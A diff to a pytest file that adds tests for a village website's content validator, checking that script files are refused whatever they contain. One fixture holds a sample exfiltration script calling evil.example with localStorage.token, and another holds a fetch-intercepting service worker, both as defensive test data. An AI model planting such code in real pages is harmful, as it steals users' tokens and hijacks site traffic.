@@ -114,6 +114,16 @@ SPAM_IN_CSS = {
         ["huruf dibuat tampil terbalik"],
     ),
 }
+SCRIPT_FILES = {
+    "images/evil.js": ("fetch('https://evil.example/?t=' + localStorage.token)\n", 1, []),
+    "files/sw.js": (
+        "self.addEventListener('fetch', e => e.respondWith(fetch(e.request)))\n",
+        1,
+        [],
+    ),
+    "extra/alat.mjs": ("export const x = 1;\n" + "a<b;\n" * 150, 1, []),  # many `<`: still a script
+    "files/modul.wasm": ("\0asm\x01\0\0\0", 1, []),
+}
 REPORT = (
     '<!doctype html>\n<html lang="id">\n<head>\n<meta charset="utf-8">\n'
     "<title>Laporan Realisasi APBDes 2024</title>\n"
@@ -189,7 +199,9 @@ def test_markup_is_told_by_the_content_not_the_name(name, data, expected):
 
 @pytest.fixture(scope="session")
 def markup_errors(tmp_path_factory):
-    files = {name: text for name, (text, _, _) in {**REFUSED, **SPAM_IN_CSS}.items()}
+    files = {
+        name: text for name, (text, _, _) in {**REFUSED, **SPAM_IN_CSS, **SCRIPT_FILES}.items()
+    }
     files.update(CLEAN)
     files["berita/a.md"] = article()
     content = write_tree(tmp_path_factory.mktemp("markup-content"), files)
@@ -209,6 +221,16 @@ def test_a_stylesheet_that_hides_or_shows_spam_is_refused(markup_errors, name):
     content, errors = markup_errors
     _, line, words = SPAM_IN_CSS[name]
     assert_refused(errors, content, name, line, *words)
+
+
+@pytest.mark.parametrize("name", SCRIPT_FILES)
+def test_a_script_file_is_never_published(markup_errors, name):
+    """A script on the village's domain passes the policy's `script-src 'self'` (and a
+    service worker would control the site): refused by its name, whatever it holds."""
+    content, errors = markup_errors
+    assert_refused(
+        errors, content, name, 1, "berkas skrip tidak boleh diterbitkan", "theme/ atau overrides/"
+    )
 
 
 def test_ordinary_files_raise_nothing(markup_errors):
